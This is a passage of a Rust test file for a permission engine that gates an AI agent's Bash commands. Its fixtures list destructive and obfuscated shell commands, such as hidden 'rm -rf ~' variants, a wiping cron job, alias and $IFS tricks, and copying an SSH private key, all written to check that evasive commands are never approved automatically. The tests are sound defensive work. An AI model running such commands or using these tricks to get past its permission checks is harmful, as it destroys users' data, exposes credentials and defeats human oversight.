        ("mkdir -p /opt/app", "/opt/app"),
        ("echo x | tee -a /etc/hosts", "/etc/hosts"),
        ("sed -i s/a/b/ /etc/hosts", "/etc/hosts"),
        ("ln -sf /repo/bin/tool /usr/local/bin/tool", "/usr/local/bin/tool"),
        ("curl -sSLo /usr/local/bin/tool https://example.com/tool", "/usr/local/bin/tool"),
        ("sort -o /tmp/sorted names.txt", "/tmp/sorted"),
    ] {
        let shown = format!("writes {shown}");
        let e = engine.evaluate(&bash, &json!({"command": command}), &ctx(Dflt), None);
        assert_eq!(e.decision.behavior, Ask, "{command}: {}", e.decision.message);
        assert!(
            e.decision.message.contains(&format!("{shown}, outside the working directories")),
            "{command}: {}",
            e.decision.message
        );
        assert_eq!(check(&engine, &bash, json!({"command": command}), Bypass, None), (Allow, "mode"), "{command}");
    }
    let e = engine.evaluate(&bash, &json!({"command": "cp ~/.ssh/id_rsa key"}), &ctx(Dflt), None);
    assert!(
        e.decision.message.contains("reads /home/u/.ssh/id_rsa, outside the working directories"),
        "{}",
        e.decision.message
    );
    for command in [
        "rm -rf build",
        "cp -r src dist",
        "curl -s -o /dev/null -w '%{http_code}' https://example.com",
        "echo done | tee /dev/stderr",
        "cp a /repo/b",
    ] {
        assert_eq!(check(&engine, &bash, json!({"command": command}), Dflt, None), (Allow, "rule"), "{command}");
    }
    let mut with_tmp = ctx(Dflt);
    with_tmp.roots.push("/tmp".into());
    let e = engine.evaluate(&bash, &json!({"command": "sort -o /tmp/sorted names.txt"}), &with_tmp, None);
    assert_eq!(e.decision.behavior, Allow, "another directory of the session is inside: {}", e.decision.message);
}

/// `bypassPermissions` stays bound by the deny rules and the critical-path checks, so a
/// command that hides what it runs from them asks, as it does with a hook's approval; plan
/// mode still denies it. What stays in view is bypassed as before.
#[test]
fn what_the_checks_cannot_see_is_never_approved_automatically() {
    let engine = empty_engine();
    let bash = tool("Bash");
    for command in [
        "{rm,-rf,~}",
        "$CMD -rf ~",
        "/???/r? -rf ~",
        "bash -c \"$X\"",
        "git -c core.pager='rm -rf ~' log",
        "timeout $T ls",
        "strace -f -o t.txt rm -rf ~",
        "watch -n1 rm -rf ~",
        "chroot / rm -rf /home/u",
        "xargs -I{} sh -c '{}' < cmds",
        "find . -name '*.sh' -exec bash {} \\;",
        "tmux send-keys -t 0 'rm -rf ~' Enter",
        "echo '* * * * * rm -rf ~' | crontab -",
        "uv --cache-dir /tmp run pytest",
        "hyperfine 'rm -rf ~'",
        "chronic rm -rf ~",
        "hash -p /bin/rm ls; ls -rf ~",
        "mapfile -C 'rm -rf ~ #' -c 1 < list",
        "shopt -s expand_aliases; alias ls=rm; eval ls -rf ~",
        "echo rm -rf ~ | xargs env",
        "xargs -I{} nice sh -c '{}' < cmds",
        "sudo -s 'rm$IFS-rf$IFS$HOME'",
        "pnpm -c exec 'rm -rf ~'",
        "yarn exec 'rm -rf ~'",
        "fd . ~ --exec=rm -rf",
    ] {
        let message = never_approved_automatically(&engine, command);
        assert!(
            message.ends_with("; the deny rules and the critical-path checks cannot see what it runs"),
            "{message}"
        );
        assert_eq!(check(&engine, &bash, json!({"command": command}), Plan, None), (Deny, "mode"), "{command}");
    }
    bypassed(
        &engine,
        &[
            "find . -name '*.o' -delete",
            "find . src -name '*.o' -exec rm {} +",
            "fd -e o -x rm",
            "echo $(date) > f",
            "npm install",
            "setsid -f npm run dev",
            "tmux ls",
            "crontab -l",
            "find . -exec sh -c 'wc -l \"$1\"' _ {} \\;",
            "uv run --frozen pytest",
        ],
    );
}
